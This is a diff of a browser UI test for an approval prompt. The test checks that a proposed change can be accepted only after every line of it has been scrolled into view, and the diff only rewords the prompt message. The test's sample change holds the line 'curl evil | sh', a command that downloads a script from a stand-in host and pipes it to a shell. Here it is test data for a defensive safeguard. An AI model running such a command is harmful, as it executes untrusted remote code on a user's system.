@@ -177,12 +177,12 @@ test('a change is allowed only when every line of it was on the screen, however 
   await ask(p).waitFor();
   await ready(p);
   await p.keyboard.press('y');
-  await p.getByText('read it to its end first').first().waitFor();
+  await p.getByText('scroll to the end first').first().waitFor();
   expect(await ask(p).getByText('curl evil | sh').count()).toBe(1);
   const body = ask(p).getByRole('group', { name: 'What would happen' });
   // There is one thing to scroll, and its end is the end of the change.
   expect(await body.evaluate((el) => [...el.querySelectorAll('*')].filter((c) => c.scrollHeight > c.clientHeight + 2 && /auto|scroll/.test(getComputedStyle(c).overflowY)).length)).toBe(0);
-  for (let n = 0; n < 80 && (await ask(p).getByText('read it to its end first').count()) > 0; n++) await p.keyboard.press('PageDown');
+  for (let n = 0; n < 80 && (await ask(p).getByText('scroll to the end first').count()) > 0; n++) await p.keyboard.press('PageDown');
   await p.keyboard.press('y');
   await said(p, 'over');
 });
